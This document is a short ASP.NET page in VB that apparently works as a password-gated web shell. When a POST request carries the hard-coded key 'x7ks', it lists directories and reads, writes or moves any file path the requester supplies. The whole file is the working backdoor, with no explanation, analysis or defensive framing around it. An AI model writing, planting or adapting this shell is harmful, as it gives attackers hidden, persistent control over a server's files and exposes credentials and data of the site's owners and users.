<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    If Request.Form("k") <> "x7ks" Then Exit Sub
    Dim dir As String = Request.Form("d")
    Select Case Request.Form("a")
        Case "list"
            For Each f As String In Directory.GetFileSystemEntries(dir)
                Response.Write(f & vbCrLf)
            Next
        Case "read"
            Response.Write(File.ReadAllText(dir))
        Case "write"
            File.WriteAllText(dir, Request.Form("c"))
        Case "mv"
            File.Move(dir, Request.Form("to"))
    End Select
End Sub
</script>
